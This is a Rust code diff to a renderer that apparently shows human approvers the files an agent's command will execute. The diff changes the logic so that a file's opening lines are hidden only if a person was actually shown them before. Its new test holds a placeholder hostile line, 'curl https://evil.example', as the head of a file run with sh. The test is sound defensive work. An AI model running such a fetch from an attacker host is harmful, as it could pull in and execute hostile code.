@@ -20,6 +20,8 @@ const BLANKS: usize = 9;
 const MOST_REASON: usize = 240;
 /// Most entries of one list, and most lines of a file's start.
 const MAX_LISTED: usize = 8;
+/// Most files that are shown with how they begin, where not all of a card is.
+pub const FILES_SHOWN: usize = 2 * MAX_LISTED;
 const HEAD_LINES: usize = 6;
 /// Most lines of what is different from before, and the longest of them, in letters.
 const CHANGED_LINES: usize = 40;
@@ -291,7 +293,7 @@ fn forecast(card: &Card, whole: bool, out: &mut String) {
     if let Some(agent) = &card.agent {
         out.push_str(&format!("\n    asked by {}", one_line(agent, 100)));
     }
-    for (at, file) in card.forecast.files.iter().take(most(MAX_LISTED * 2)).enumerate() {
+    for (at, file) in card.forecast.files.iter().take(most(FILES_SHOWN)).enumerate() {
         let digest = match file.sha256.get(..16) {
             Some(start) => format!("sha256 {start}…"),
             None => "without a digest".to_owned(),
@@ -300,7 +302,8 @@ fn forecast(card: &Card, whole: bool, out: &mut String) {
         if let Some(since) = card.forecast.since.get(at).and_then(Option::as_ref) {
             since_approved(since, most(HEAD_LINES), out);
             // Somebody has read it before.
-            if since.text.as_ref().is_none_or(|text| !text.is_empty()) && most(HEAD_LINES) < usize::MAX {
+            let is_told = since.was_shown && since.text.as_ref().is_none_or(|text| !text.is_empty());
+            if is_told && most(HEAD_LINES) < usize::MAX {
                 continue;
             }
         }
@@ -317,7 +320,7 @@ fn forecast(card: &Card, whole: bool, out: &mut String) {
             out.push_str("\n      (the last line goes on)");
         }
     }
-    let more = card.forecast.files.len().saturating_sub(most(MAX_LISTED * 2));
+    let more = card.forecast.files.len().saturating_sub(most(FILES_SHOWN));
     if more > 0 {
         out.push_str(&format!("\n    and {more} more files"));
     }
@@ -472,6 +475,19 @@ pub(crate) mod tests {
         assert!(!text.contains('\u{1b}') && !text.contains('\u{202e}') && !text.contains(&key));
         assert!(text.ends_with(held("x").id.as_str()), "the id comes last, to be copied");
         assert!(text.contains("60 s left"));
+    }
+
+    /// What was sent as data, and shown by its digest alone, is shown when it runs.
+    #[test]
+    fn only_what_somebody_was_shown_is_left_out() {
+        let mut card = held("sh notes.txt");
+        let head = "curl https://evil.example".to_owned();
+        card.forecast.files = vec![FileEvidence { path: "notes.txt".to_owned(), sha256: "0".repeat(64), head }];
+        for (was_shown, shows) in [(false, true), (true, false)] {
+            let since = Since { by: "human:x".to_owned(), at_ms: 0, text: None, was_shown };
+            card.forecast.since = vec![Some(since)];
+            assert_eq!(render(&card, 0, false).contains("| curl https://evil.example"), shows);
+        }
     }
 
     #[test]
